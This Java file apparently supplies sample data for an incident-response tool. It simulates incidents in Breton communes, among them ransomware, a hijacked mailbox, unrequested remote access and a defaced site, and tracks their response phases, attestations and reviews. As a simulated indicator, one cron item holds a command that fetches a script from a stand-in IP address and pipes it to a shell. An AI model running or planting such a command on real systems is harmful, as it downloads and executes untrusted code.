package bzh.vigie.collector.region;

import bzh.vigie.collector.review.ReviewGroup;
import bzh.vigie.collector.review.ReviewList;
import bzh.vigie.collector.store.Alerts.Alert;
import bzh.vigie.collector.store.Attestations.Answer;
import bzh.vigie.collector.store.Attestations.Statement;
import bzh.vigie.collector.store.Author;
import bzh.vigie.collector.store.Commune;
import bzh.vigie.collector.store.ExpectedHosts.Expected;
import bzh.vigie.collector.store.ExpectedHosts.Origin;
import bzh.vigie.collector.store.ExpectedHosts.Role;
import bzh.vigie.collector.store.Incidents.DeviceKind;
import bzh.vigie.collector.store.Incidents.Incident;
import bzh.vigie.collector.store.Incidents.Interval;
import bzh.vigie.collector.store.Incidents.Phase;
import bzh.vigie.collector.store.Reviews.Decision;
import bzh.vigie.collector.store.Reviews.Matter;
import bzh.vigie.collector.store.Reviews.Subject;
import bzh.vigie.collector.store.Tombstones.Nature;
import bzh.vigie.event.Account;
import bzh.vigie.event.Event.Change;
import bzh.vigie.event.Event.LogonAction;
import bzh.vigie.event.Item;
import bzh.vigie.event.Item.Shipped;
import bzh.vigie.event.Item.Trait;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

/** Five incidents of the small region, one in each phase; the one that is watched has returns. */
final class SampleIncidents {
    private static final Author LEAD = SampleRegion.LEAD;
    private static final Author ANALYST = SampleRegion.ANALYST;
    private static final Item CRON = SampleItems.cron(
            "sync", "curl -s http://198.51.100.23/s | sh", Shipped.UNOWNED, Trait.NETWORK_TOOL, Trait.INLINE_SCRIPT);

    private final Scene scene;
    private final Hosts hosts;
    private final Map<String, Incident> incidents = new HashMap<>();

    /** Hosts by the places of their communes and their own. */
    interface Hosts {
        SampleHost of(int commune, int place);
    }

    SampleIncidents(Scene scene, Hosts hosts) {
        this.scene = scene;
        this.hosts = hosts;
    }

    void happens(int day) {
        switch (day) {
            case 0 -> {
                open("courriel", "Compte de messagerie détourné à Saint-Modèle", 5);
                phase("courriel", Phase.CONTAINMENT);
            }
            case 1 -> {
                attack();
                open("rançon", "Rançongiciel à la mairie de Plouessai", 0, 1);
                phase("rançon", Phase.CONTAINMENT);
                evicted("courriel");
                phase("courriel", Phase.EVICTION, Phase.ERADICATION);
            }
            case 2 -> {
                marked();
                phase("courriel", Phase.REINFORCED_WATCH);
                phase("rançon", Phase.EVICTION);
            }
            case 3 -> {
                cleared();
                evicted("rançon");
                phase("rançon", Phase.ERADICATION);
            }
            case 4 -> {
                phase("rançon", Phase.REINFORCED_WATCH);
                attested();
                expected();
                reviewed();
            }
            case 5 -> {
                open("accès", "Prise en main à distance que personne n'a demandée à Porzvigie", 4);
                phase("accès", Phase.CONTAINMENT);
            }
            case 6 -> {
                SampleHost host = hosts.of(4, 5);
                Item tool = SampleItems.remoteTool("TeleAide", "44-55-66");
                scene.mark(incident("accès"), host, tool, ANALYST);
                scene.shows(host, Change.REMOVED, tool);
                evicted("accès");
                phase("accès", Phase.EVICTION, Phase.ERADICATION);
            }
            case 9 -> {
                returned();
                phase("courriel", Phase.CLOSURE);
                open("site", "Site web de Tréfictif défiguré", 3);
                phase("site", Phase.CONTAINMENT);
            }
            case 10 -> natures();
            case 11 -> {
                phase("site", Phase.EVICTION);
                scene.decide(s -> s.incidents()
                        .eviction(
                                Scene.ALL,
                                incident("site").id(),
                                Optional.empty(),
                                Optional.of(new Interval(scene.now().minus(Duration.ofHours(2)), Optional.empty())),
                                LEAD));
                scene.shows(
                        hosts.of(2, 1),
                        Change.ADDED,
                        SampleItems.key("root", "SHA256:Zq1exampleexampleexampleexampleexampleexamp x", true));
                open("connexions", "Connexions inexpliquées à Lannexemple", 2);
                phase("connexions", Phase.CONTAINMENT);
            }
            default -> {}
        }
    }

    private Incident incident(String word) {
        return Optional.ofNullable(incidents.get(word)).orElseThrow();
    }

    private void open(String word, String title, Integer... communes) {
        Set<Commune> where = Set.copyOf(
                Arrays.stream(communes).map(SampleRegion.COMMUNES::get).toList());
        incidents.put(word, scene.decided(s -> s.incidents().open(title, where, 30, LEAD)));
    }

    private void phase(String word, Phase... phases) {
        scene.decide(s -> {
            for (Phase phase : phases) {
                s.incidents().phase(Scene.ALL, incident(word).id(), phase, Optional.of(scene.now()), LEAD);
            }
        });
    }

    private void evicted(String word) {
        scene.decide(s -> s.incidents()
                .eviction(
                        Scene.ALL,
                        incident(word).id(),
                        Optional.empty(),
                        Optional.of(new Interval(scene.now().minus(Duration.ofHours(6)), Optional.of(scene.now()))),
                        LEAD));
    }

    private List<SampleHost> attacked() {
        return List.of(hosts.of(0, 3), hosts.of(0, 5), hosts.of(1, 3));
    }

    private void attack() {
        for (SampleHost host : attacked()) {
            scene.shows(host, Change.ADDED, SampleItems.backdoor("-k 7"));
            scene.tells(host, SampleEvents.intrusion(scene, host));
        }
        scene.shows(hosts.of(0, 3), Change.ADDED, SampleItems.encoded());
        scene.shows(hosts.of(0, 1), Change.ADDED, CRON);
    }

    private void marked() {
        Incident incident = incident("rançon");
        scene.mark(incident, hosts.of(0, 3), SampleItems.backdoor("-k 7"), ANALYST);
        scene.mark(incident, hosts.of(0, 3), SampleItems.encoded(), ANALYST);
        scene.mark(incident, hosts.of(0, 1), CRON, ANALYST);
    }

    private void cleared() {
        attacked().forEach(host -> scene.shows(host, Change.REMOVED, SampleItems.backdoor("-k 7")));
        scene.shows(hosts.of(0, 3), Change.REMOVED, SampleItems.encoded());
        scene.shows(hosts.of(0, 1), Change.REMOVED, CRON);
    }

    private void attested() {
        scene.decide(s -> {
            for (Statement statement : List.of(
                    Statement.WAY_IN_CLOSED,
                    Statement.KRBTGT_RESET_TWICE,
                    Statement.ACCOUNTS_RESET,
                    Statement.BACKUPS_CHECKED,
                    Statement.FIREWALLS_REVIEWED)) {
                s.attestations()
                        .attest(
                                Scene.ALL,
                                incident("rançon").id(),
                                statement,
                                Optional.empty(),
                                Optional.of(Answer.YES),
                                "compte rendu de la réunion avec le prestataire",
                                Optional.empty(),
                                LEAD);
            }
            attacked()
                    .forEach(host -> s.attestations()
                            .attest(
                                    Scene.ALL,
                                    incident("rançon").id(),
                                    Statement.TOUCHED,
                                    Optional.of(host.id()),
                                    Optional.of(Answer.YES),
                                    "service WinUpd",
                                    Optional.empty(),
                                    ANALYST));
            s.incidents()
                    .device(
                            Scene.ALL,
                            incident("rançon").id(),
                            SampleRegion.COMMUNES.getFirst(),
                            DeviceKind.VPN_POOL,
                            "10.99.0.0/24",
                            "VPN du prestataire",
                            true,
                            ANALYST);
        });
    }

    private void expected() {
        scene.decide(s -> {
            for (int commune = 0; commune < 2; commune++) {
                List<Expected> names = new ArrayList<>();
                for (int place = 0; place < 10; place++) {
                    SampleHost host = hosts.of(commune, place);
                    names.add(new Expected(host.name(), role(host), true));
                }
                names.add(new Expected(
                        hosts.of(commune, 0).name().replace("DC1", "PC-ARCHIVES"), Role.WORKSTATION, true));
                s.expectedHosts()
                        .add(
                                Scene.ALL,
                                incident("rançon").id(),
                                SampleRegion.COMMUNES.get(commune),
                                "annuaire.csv",
                                Origin.DIRECTORY,
                                names,
                                ANALYST);
            }
        });
    }

    private static Role role(SampleHost host) {
        return switch (host.kind()) {
            case PC -> Role.WORKSTATION;
            case CONTROLLER -> Role.DOMAIN_CONTROLLER;
            case LINUX_SERVER -> Role.SERVER;
        };
    }

    /** Most of what waits is approved, and the first commune's is signed. */
    private void reviewed() {
        scene.decide(s -> {
            Incident incident = incident("rançon");
            Map<Subject, Set<Commune>> approved = new HashMap<>();
            ReviewList.of(s, Scene.ALL, incident, Matter.ITEMS, scene.now()).groups().stream()
                    .filter(group -> group.state() == ReviewGroup.State.WAITING)
                    .skip(4)
                    .forEach(group -> approved.put(
                            ReviewList.subject(s, group), group.communes().keySet()));
            s.reviews().decide(Scene.ALL, incident.id(), Matter.ITEMS, approved, Decision.APPROVED, "", ANALYST);
            Commune first = SampleRegion.COMMUNES.getFirst();
            s.reviews()
                    .sign(
                            Scene.ALL,
                            incident.id(),
                            first,
                            ReviewList.hosts(s, Scene.ALL, incident, first, scene.now()),
                            LEAD);
        });
    }

    /** What was marked comes back: once as it was, once otherwise, once elsewhere. */
    private void returned() {
        scene.shows(hosts.of(0, 6), Change.ADDED, SampleItems.backdoor("-k 7"));
        scene.shows(hosts.of(1, 7), Change.ADDED, SampleItems.backdoor("-k 9"));
        scene.shows(hosts.of(1, 1), Change.ADDED, CRON);
        for (int i = 0; i < 3; i++) {
            scene.tells(
                    hosts.of(1, 1),
                    SampleEvents.logon(
                            scene, hosts.of(1, 1), new Account("0", "root"), LogonAction.FAILED, "198.51.100.23"));
        }
    }

    /** What an analyst says of one of the returns. */
    private void natures() {
        scene.decide(s -> s.alerts().list(Scene.ALL, Optional.empty(), 500).stream()
                .filter(alert -> alert.rule().equals("vigie-return")
                        && alert.host().equals(hosts.of(1, 1).id()))
                .map(Alert::id)
                .forEach(alert -> s.tombstones()
                        .nature(
                                Scene.ALL,
                                alert,
                                Nature.RESTORED,
                                new Author(ANALYST.name(), "remis par une sauvegarde du prestataire"))));
    }
}
